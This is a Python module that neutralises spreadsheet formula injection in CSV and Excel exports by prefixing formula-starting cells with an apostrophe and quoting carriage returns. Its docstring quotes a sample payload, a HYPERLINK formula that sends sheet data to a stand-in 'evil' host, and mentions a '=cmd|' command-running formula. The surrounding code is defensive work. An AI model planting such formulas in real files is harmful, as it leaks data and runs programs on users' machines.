"""Cells that a spreadsheet would run: text starting with ``= + - @``, a tab or a carriage return is read by
Excel and LibreOffice as a formula (``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet, ``=cmd|…``
runs programs). Every CSV and Excel file we write passes its text through :func:`neutralise_frame`, which
puts an apostrophe in front of such cells (the OWASP advice): the text stays readable, nothing runs.

Parquet and JSON are data formats read by programs, not spreadsheets; they keep the text as it is."""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(v: Any) -> Any:
    """``'=1+1`` for ``=1+1``; anything that is not text starting a formula is returned unchanged."""
    return "'" + v if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names cannot start a formula (numbers stay numbers)."""
    out = df.copy()
    out.columns = [neutralise_cell(c) for c in out.columns]
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if not (col.dtype == object or pd.api.types.is_string_dtype(col.dtype)):
            continue
        first = col.str[:1] if len(col) else col
        mask = first.isin(FORMULA_STARTS).fillna(False).astype(bool)
        if mask.any():
            col = col.astype(object).copy()
            col[mask] = "'" + col[mask].astype(str)
            out.iloc[:, i] = col
    return out


def _has_cr(df: pd.DataFrame) -> bool:
    for i in range(df.shape[1]):
        col = df.iloc[:, i]
        if (col.dtype == object or pd.api.types.is_string_dtype(col.dtype)) and len(col) \
                and col.str.contains("\r", regex=False).fillna(False).astype(bool).any():
            return True
    return False


def to_safe_csv(df: pd.DataFrame) -> str:
    """CSV text with formulas neutralised. A carriage return inside a cell would end the row for a
    spreadsheet (and start the next with whatever follows, ``=…`` included) unless the cell is quoted; the
    csv module quotes only the characters of its line terminator, so such a table is written with ``\\r\\n``
    line ends (RFC 4180), which quotes every cell holding a CR."""
    safe = neutralise_frame(df)
    return str(safe.to_csv(index=False, lineterminator="\r\n" if _has_cr(safe) else "\n"))


def to_excel_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy safe to hand to openpyxl: formulas neutralised, and the control characters that XML 1.0 (and so
    a worksheet) cannot hold removed — openpyxl refuses them, and real source texts carry them (an EEA
    description holds a stray \\x0b)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    out = neutralise_frame(df)
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if col.dtype == object or pd.api.types.is_string_dtype(col.dtype):
            out.iloc[:, i] = col.map(lambda v: ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v)
    return out
